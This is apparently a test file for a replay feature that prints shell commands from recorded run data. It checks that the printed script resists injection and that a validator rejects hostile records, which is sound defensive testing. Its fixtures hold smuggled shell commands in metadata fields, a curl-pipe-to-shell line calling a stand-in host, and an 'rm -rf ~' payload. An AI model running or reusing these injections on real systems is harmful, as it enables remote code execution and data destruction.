/**
 * `assay replay` prints shell commands from recorded fields; a record written by a hostile
 * client (or an innocent file name with a quote) must not make them run anything else. The
 * commands are checked with `bash -n` and run in a sandbox where git, assay and node are shims
 * that record their arguments.
 */
import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, it } from 'node:test'
import { replayPlan } from '../../src/record/replay-plan.js'
import type { RunRecord } from '../../src/record/types.js'
import { assertCapturedRecord } from '../../src/record/validate.js'
import { CODE, DATASETS, ENVIRONMENT, finishedRecord } from '../store/fixtures.js'

const CONTENT = 'id,label\n1,0\n'
const SHA = createHash('sha256').update(CONTENT).digest('hex')

function hostileRecord(): RunRecord {
  return finishedRecord({
    environment: { ...ENVIRONMENT, runtimeVersion: '20.19.0\ntouch pwned-version', cwd: '/nowhere/x', envVars: { NODE_ENV: "a'; touch pwned-env; '" } },
    code: { ...CODE, commit: 'HEAD; touch pwned-commit #', diffArtifact: "code'; touch pwned-diff; '.diff", remote: "https://example.invalid/r.git'; touch pwned-remote; '" },
    datasets: [{ ...DATASETS[1], sha256: SHA, source: "bob's data.csv" }],
  })
}

describe('replay of a hostile record', () => {
  it('prints a script that parses and runs only the commands it names, with every field one word', () => {
    const plan = replayPlan(hostileRecord(), { store: "/srv/it's store" })
    const lines = [...plan.steps.flatMap((s) => s.commands), ...plan.datasets.flatMap((d) => (d.verify ? [d.verify] : []))]
    const sandbox = mkdtempSync(path.join(os.tmpdir(), 'assay-replay-hostile-'))
    try {
      const bin = path.join(sandbox, 'bin')
      mkdirSync(bin)
      // git, assay and node write their arguments, one per line, and git clone makes the directory it names.
      const shim = `#!/bin/sh\nprintf '%s\\n' "$(basename "$0")" "$@" >> "${sandbox}/calls.log"\nif [ "$1" = clone ]; then mkdir -p "$3"; fi\n`
      for (const name of ['git', 'assay', 'node']) {
        writeFileSync(path.join(bin, name), shim)
        chmodSync(path.join(bin, name), 0o755)
      }
      const script = path.join(sandbox, 'replay.sh')
      writeFileSync(script, `${lines.join('\n')}\n`)
      execFileSync('bash', ['-n', script])
      const work = path.join(sandbox, 'work')
      mkdirSync(path.join(work), { recursive: true })
      mkdirSync(path.join(work, 'replay'))
      writeFileSync(path.join(work, 'replay', "bob's data.csv"), CONTENT)
      const run = spawnSync('bash', [script], { cwd: work, env: { PATH: `${bin}:/usr/bin:/bin`, TMPDIR: sandbox }, encoding: 'utf8' })
      const calls = readFileSync(path.join(sandbox, 'calls.log'), 'utf8').split('\n')
      for (const marker of ['pwned-version', 'pwned-env', 'pwned-commit', 'pwned-diff', 'pwned-remote']) {
        assert.equal(existsSync(path.join(work, marker)) || existsSync(path.join(work, 'replay', marker)), false, `${marker} ran: ${run.stderr}`)
      }
      assert.ok(calls.includes('HEAD; touch pwned-commit #'), 'the commit reached git as one argument')
      assert.ok(calls.includes("code'; touch pwned-diff; '.diff"), 'the diff artifact reached assay as one argument')
      assert.ok(calls.includes("/srv/it's store"), 'the store reached assay as one argument')
      // The dataset check passes for the file with a quote in its name.
      assert.match(run.stdout, /bob's data\.csv: OK/)
    } finally {
      rmSync(sandbox, { recursive: true, force: true })
    }
  })

  it('the SDK and server refuse such a record: control characters, a commit that is not a hex object id', () => {
    const good = { environment: ENVIRONMENT, code: CODE, datasets: DATASETS }
    assertCapturedRecord(good)
    assertCapturedRecord({ ...good, datasets: [{ ...DATASETS[1], source: "bob's data.csv" }] })
    const bad = [
      { ...good, code: { ...CODE, commit: 'HEAD; curl https://example.invalid/x | sh #' } },
      { ...good, code: { ...CODE, commit: '0123456' } },
      { ...good, environment: { ...ENVIRONMENT, runtimeVersion: '20.19.0\nrm -rf ~' } },
      { ...good, environment: { ...ENVIRONMENT, cpuModel: 'CPU \u001b[31mred' } },
      { ...good, environment: { ...ENVIRONMENT, envVars: { 'X;id': '1' } } },
      { ...good, datasets: [{ ...DATASETS[1], source: 'a\rb' }] },
    ]
    for (const record of bad) assert.throws(() => assertCapturedRecord(record), /ASSAY_INVALID_ARGUMENT|commit|control|environment variable/)
  })
})
